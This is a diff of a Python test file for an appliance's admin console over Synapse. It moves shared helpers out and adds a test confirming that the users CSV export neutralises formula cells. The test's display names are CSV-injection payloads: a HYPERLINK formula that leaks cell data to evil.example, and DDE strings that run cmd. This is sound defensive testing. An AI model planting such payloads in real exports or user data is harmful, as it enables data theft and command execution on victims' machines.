@@ -1,131 +1,18 @@
 """The user pages against the real appliance: Admin API search and pages, a user's page, and
-every action, checked in Synapse itself afterwards. Also the shared helpers of the console tests.
+every action, checked in Synapse itself afterwards.
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import re
-import secrets
-import time
-from dataclasses import dataclass
 from urllib.parse import quote
 
-import pytest
 import requests
-from matrix_helpers import Person, client_for
-from test_console_auth import csrf_token, first_operator, login
+from console_helpers import Console, register_external, unique, user_path
 
-from appliance.synapse_module.rooms.kinds import ACCESS_RULES
-
-PASSWORD = "Console-Test-Passw0rd"
-
-
-# Helpers shared by the console tests -----------------------------------------------------------
-@pytest.fixture
-def app(console_app):
-    console_app.config.update(WTF_CSRF_ENABLED=True)
-    return console_app
-
-
-class Console:
-    """An operator's browser session on the console (Flask's test client, real CSRF); the first
-    operator's unless credentials are given."""
-
-    def __init__(self, app, username: str | None = None, password: str | None = None):
-        self.client = app.test_client()
-        if username is None:
-            credentials = first_operator(app)
-            username, password = credentials["username"], credentials["password"]
-        response = login(self.client, username, password)
-        assert response.status_code == 302, response.get_data(as_text=True)
-        self.token = csrf_token(self.client.get("/audit/").get_data(as_text=True))
-
-    def get(self, path: str, status: int = 200) -> str:
-        response = self.client.get(path)
-        assert response.status_code == status, (path, response.status_code)
-        return response.get_data(as_text=True)
-
-    def post(self, path: str, **data):
-        return self.client.post(path, data={"csrf_token": self.token, **data})
-
-    def confirm(self, path: str, **data):
-        """A destructive action: the first POST must only ask, the second one acts."""
-        asked = self.post(path, **data)
-        assert asked.status_code == 200 and 'name="confirmed" value="yes"' in asked.get_data(
-            as_text=True
-        ), path
-        return self.post(path, confirmed="yes", **data)
-
-
-@pytest.fixture
-def console(app) -> Console:
-    return Console(app)
-
-
-@dataclass
-class Synapse:
-    """The Admin API as the tests use it to set up and check, with the server-admin token."""
-
-    url: str
-    token: str
-    server_name: str
-
-    def call(self, method: str, path: str, body: dict | None = None) -> dict:
-        response = requests.request(
-            method,
-            self.url + path,
-            json=body,
-            timeout=30,
-            headers={"Authorization": f"Bearer {self.token}"},
-        )
-        assert response.ok, (path, response.status_code, response.text)
-        return response.json()
-
-    def create_user(self, localpart: str, displayname: str, email: str | None = None) -> str:
-        user_id = f"@{localpart}:{self.server_name}"
-        body: dict = {"password": PASSWORD, "displayname": displayname}
-        if email:
-            body["threepids"] = [{"medium": "email", "address": email}]
-        self.call("PUT", f"/_synapse/admin/v2/users/{quote(user_id)}", body)
-        return user_id
-
-    def wait_for_background_updates(self, timeout: float = 120) -> None:
-        # On a fresh database Synapse builds some indexes in the background; reactivating a
-        # user fails with a 500 until the profiles index exists.
-        deadline = time.monotonic() + timeout
-        while self.call("GET", "/_synapse/admin/v1/background_updates/status")["current_updates"]:
-            assert time.monotonic() < deadline, "Synapse's background updates did not finish"
-            time.sleep(0.5)
-
-    def user(self, user_id: str) -> dict:
-        return self.call("GET", f"/_synapse/admin/v2/users/{quote(user_id)}")
-
-    def login(self, user_id: str, password: str = PASSWORD) -> str:
-        response = requests.post(
-            self.url + "/_matrix/client/v3/login",
-            timeout=30,
-            json={
-                "type": "m.login.password",
-                "password": password,
-                "identifier": {"type": "m.id.user", "user": user_id},
-            },
-        )
-        assert response.status_code == 200, response.text
-        return response.json()["access_token"]
-
-
-@pytest.fixture
-def synapse(appliance, admin_token) -> Synapse:
-    settings = appliance.settings
-    return Synapse(settings.synapse.listen.url, admin_token, settings.server_name)
-
-
-def unique(prefix: str) -> str:
-    return f"{prefix}{secrets.token_hex(3)}"
-
-
-def user_path(user_id: str) -> str:
-    return f"/users/{quote(user_id)}"
+from admin_console.users import export as user_csv
 
 
 # The list ------------------------------------------------------------------------------------
@@ -169,15 +56,43 @@ def test_filters_externals_agents_admins(console, synapse, appliance):
     assert "@appliance-console:" in admins and agent not in admins
 
 
-def register_external(appliance, tag: str) -> str:
-    """An external as the module knows one: invited by email into a room open to externals,
-    then registered with that address."""
-    client = client_for(appliance)
-    host = Person.register(client, f"{tag}-host@ac-paris.fr")
-    open_to_externals = {"type": ACCESS_RULES, "state_key": "", "content": {"rule": "unrestricted"}}
-    room = host.new_room(preset="private_chat", initial_state=[open_to_externals])
-    assert host.invite_by_email(room, f"{tag}-guest@example.com").status_code == 200
-    return Person.register(client, f"{tag}-guest@example.com").user_id
+# Display names a user gives themselves, one per OWASP formula prefix that Synapse keeps at the
+# start of a display name: it strips whitespace around one, so TAB and CR cannot lead it (the
+# audit export's test covers them, typed as a username on the login page).
+HOSTILE_DISPLAY_NAMES = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "-1\r+1",
+)
+
+
+def test_user_export_has_every_page_and_no_cell_is_a_formula(console, synapse, monkeypatch):
+    monkeypatch.setattr(user_csv, "PAGE_SIZE", 4)  # so that the export crosses pages
+    tag = unique("csv")
+    names = {}
+    for n, hostile in enumerate(HOSTILE_DISPLAY_NAMES):
+        # Through the Admin API: agents cannot give themselves such names (tests/test_names.py),
+        # an operator can, and the export must hold whatever Synapse stores.
+        user_id = synapse.create_user(f"{tag}-{n}", hostile, f"{tag}-{n}@ac-paris.fr")
+        assert synapse.user(user_id)["displayname"] == hostile
+        names[user_id] = hostile
+
+    export = console.client.get(f"/users/export.csv?kind=all&q={tag}")
+    assert export.status_code == 200 and export.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(export.get_data(as_text=True), newline="")))
+    assert rows[0] == list(user_csv.COLUMNS)
+    # A Matrix ID starts with @, a formula prefix too: it is neutralised like any other cell.
+    exported = {row[0].removeprefix("'@"): row for row in rows[1:] if row[0].startswith("'@")}
+    assert set(exported) == {user_id[1:] for user_id in names}  # six, across pages, once each
+    assert len(rows) == 1 + len(names)
+    for user_id, hostile in names.items():
+        assert exported[user_id[1:]][1] == "'" + hostile
+        email = f"{user_id[1:].split(':')[0]}@ac-paris.fr"
+        assert exported[user_id[1:]][2:6] == [email, "agent", "no", "active"]
+    assert f"kind=all q={tag}" in console.get("/audit/?q=user.export")
 
 
 def test_empty_search_says_so(console):
@@ -207,10 +122,6 @@ def test_external_by_email_domain_when_the_allowlist_is_known(console, synapse):
     tag = unique("ext")
     user_id = synapse.create_user(tag, f"Someone {tag}", f"{tag}@example.com")
     page = console.get(user_path(user_id))
-    try:
-        synapse.call("GET", "/_synapse/client/appliance/v1/domains")
-    except AssertionError:
-        pytest.skip("needs GET /_synapse/client/appliance/v1/domains (allowlist endpoint)")
     assert 'class="tag external"' in page
 
 
@@ -327,8 +238,7 @@ def test_invitation_mail_for_allowed_domain_and_reasons_for_others(console, mail
         emails=f"{tag}@ac-paris.fr\n{tag}@example.com\nnot an address",
     )
     page = response.get_data(as_text=True)
-    if response.status_code == 501:
-        pytest.skip("needs GET /_synapse/client/appliance/v1/domains (allowlist endpoint)")
+    assert response.status_code == 200, page  # 501 would mean the allowlist endpoint is missing
     assert "invitation sent" in page
     assert "example.com is not an allowed domain" in page
     assert "not a valid address" in page
